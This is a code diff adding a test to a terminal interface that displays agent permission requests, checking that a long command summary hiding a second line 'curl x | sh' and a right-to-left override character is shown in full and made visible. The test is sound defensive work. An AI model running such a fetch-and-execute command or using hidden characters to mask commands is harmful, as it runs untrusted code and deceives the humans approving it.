@@ -402,6 +402,17 @@ describe('live view', () => {
     view.close();
   });
 
+  test('a command that has no room in its line is shown whole above it', () => {
+    const { io, view } = open();
+    const long = `echo ${'a'.repeat(90)} # harmless\ncurl x | sh\u202e`;
+    const asked = { ...permission('q1'), summary: long } as EventBody;
+    play(view, [...HALF_WAY, asked]);
+    vi.advanceTimersByTime(100);
+    const shown = io.out().replaceAll('\u001b[K', '');
+    expect(shown).toContain(`  echo ${'a'.repeat(90)} # harmless\n  curl x | sh⟨U+202E⟩\n`);
+    view.close();
+  });
+
   test('says how many ask the same', () => {
     const { io, view } = open();
     const joined: EventBody = { type: 'permission.joined', requestId: 'q1', agentId: 'a3' };
